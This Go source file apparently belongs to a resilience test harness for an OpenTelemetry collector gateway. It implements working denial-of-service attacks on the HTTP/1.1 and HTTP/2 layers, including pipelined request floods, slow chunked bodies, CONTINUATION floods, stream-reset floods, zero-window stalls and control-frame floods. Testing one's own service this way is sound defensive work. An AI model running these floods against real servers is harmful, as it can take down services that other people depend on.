// Copyright The otelcol-tenant Authors
// SPDX-License-Identifier: MIT

package attack

import (
	"bytes"
	"cmp"
	"context"
	"net"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// writeAll opens n connections, calls write for each of them, and closes them after wait. It reads
// no answer.
func writeAll(ctx context.Context, n int, dial func() (net.Conn, error), write func(net.Conn), wait time.Duration) {
	var held []net.Conn
	for range n {
		c, err := dial()
		if err != nil {
			break // refused
		}
		held = append(held, c)
	}
	ctx, cancel := context.WithTimeout(ctx, wait)
	defer cancel()
	var work sync.WaitGroup
	for _, c := range held {
		work.Go(func() { write(c) })
	}
	<-ctx.Done()
	for _, c := range held {
		_ = c.Close() // ends write
	}
	work.Wait()
}

// pipelines sends requests one after the other on each connection and reads no answer.
func (t *Target) pipelines(ctx context.Context, connections int, request []byte, wait time.Duration) {
	many := bytes.Repeat(request, 2000)
	writeAll(ctx, connections, func() (net.Conn, error) { return open(ctx, t.HTTP, nil) }, func(c net.Conn) {
		for ctx.Err() == nil {
			if _, err := c.Write(many); err != nil {
				return
			}
		}
	}, wait)
}

// frames sends the headers of a call on each HTTP/2 connection, and then calls write repeatedly.
func (t *Target) frames(ctx context.Context, connections int, ended bool, write func(*wire) error, wait time.Duration) {
	writeAll(ctx, connections, func() (net.Conn, error) { return dialHTTP2(ctx, t.http2()) }, func(c net.Conn) {
		w := c.(*wire)
		err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: t.callHeaders(logsPath, ""), EndHeaders: ended})
		for err == nil && ctx.Err() == nil {
			err = write(w)
		}
	}, wait)
}

// unread sends calls repeatedly, with a window of zero for the answers.
func (t *Target) unread(ctx context.Context, connections int, wait time.Duration) {
	body := prefixed(request(nil, repeated(2, 1)), false)
	writeAll(ctx, connections, func() (net.Conn, error) { return dialHTTP2(ctx, t.http2()) }, func(c net.Conn) {
		w := c.(*wire)
		if w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}) != nil {
			return
		}
		head := t.callHeaders(logsPath, "")
		for id := uint32(1); ctx.Err() == nil; id += 2 {
			if w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true}) != nil || w.WriteData(id, true, body) != nil {
				return
			}
		}
	}, wait)
}

// chunks returns a body in chunks of one byte, with chunk extensions of size bytes.
func chunks(n, size int) string {
	return strings.Repeat("1;"+strings.Repeat("x", size)+"\r\na\r\n", n) + "0\r\n\r\n"
}

// protocols returns attacks on the protocols below OTLP.
func protocols(size Size) []Attack {
	attack := func(name string, anonymous bool, run func(ctx context.Context, t *Target)) Attack {
		return Attack{Name: name, Anonymous: anonymous, Run: func(ctx context.Context, t Target) (string, error) {
			if anonymous {
				t.Key = ""
			}
			run(ctx, &t)
			return "", nil
		}}
	}
	const none = "POST /v1/logs HTTP/1.1\r\nHost: gateway\r\nContent-Length: 0\r\n"
	list := []Attack{
		attack("refused requests that are pipelined, HTTP", true, func(ctx context.Context, t *Target) {
			t.pipelines(ctx, size.Connections, []byte(none+"\r\n"), size.Stall)
		}),
		attack("requests without a format that are pipelined, HTTP", false, func(ctx context.Context, t *Target) {
			t.pipelines(ctx, size.Connections, []byte(none+"Authorization: Bearer "+t.Key+"\r\n\r\n"), size.Stall)
		}),
		attack("tiny requests that are pipelined, HTTP", false, func(ctx context.Context, t *Target) {
			tiny := request(nil, repeated(2, 1))
			t.pipelines(ctx, size.Connections, append(t.head(post{path: logsPath, content: protobuf}, len(tiny)), tiny...), size.Stall)
		}),
		attack("chunks of one byte, HTTP", false, func(ctx context.Context, t *Target) {
			head := strings.Replace(string(t.head(post{path: logsPath, content: protobuf}, 0)), "Content-Length: 0", "Transfer-Encoding: chunked", 1)
			t.pipelines(ctx, size.Connections/8, []byte(head+chunks(100, 2000)), size.Stall)
		}),
	}
	for suffix, web := range map[string]bool{", gRPC": false, ", HTTP/2": true} {
		frames := func(name string, anonymous bool, run func(ctx context.Context, t *Target)) {
			list = append(list, attack(name+suffix, anonymous, func(ctx context.Context, t *Target) {
				t.web = web
				run(ctx, t)
			}))
		}
		frames("continuations without content", true, func(ctx context.Context, t *Target) {
			t.frames(ctx, size.Connections/8, false, func(w *wire) error { return w.WriteContinuation(1, false, nil) }, size.Stall)
		})
		frames("window updates and priorities", true, func(ctx context.Context, t *Target) {
			t.frames(ctx, size.Connections/8, true, func(w *wire) error {
				if err := w.WriteWindowUpdate(0, 1); err != nil {
					return err
				}
				return w.WritePriority(3, http2.PriorityParam{Weight: 1})
			}, size.Stall)
		})
		frames("data frames with only padding", false, func(ctx context.Context, t *Target) {
			t.frames(ctx, size.Connections/8, true, func(w *wire) error { return w.WriteDataPadded(1, false, nil, make([]byte, 255)) }, size.Stall)
		})
		frames("unread answers", false, func(ctx context.Context, t *Target) {
			t.unread(ctx, size.Connections/8, size.Stall)
		})
		frames("endless header lists", true, func(ctx context.Context, t *Target) {
			t.headerLists(ctx, size.Connections/2, 40, size.Stall)
		})
		frames("streams that are reset", true, func(ctx context.Context, t *Target) { t.resets(ctx, 20_000) })
		frames("pings and settings", true, func(ctx context.Context, t *Target) { t.controlFrames(ctx, 200_000) })
	}
	slices.SortStableFunc(list, func(a, b Attack) int { return cmp.Compare(a.Name, b.Name) })
	return list
}
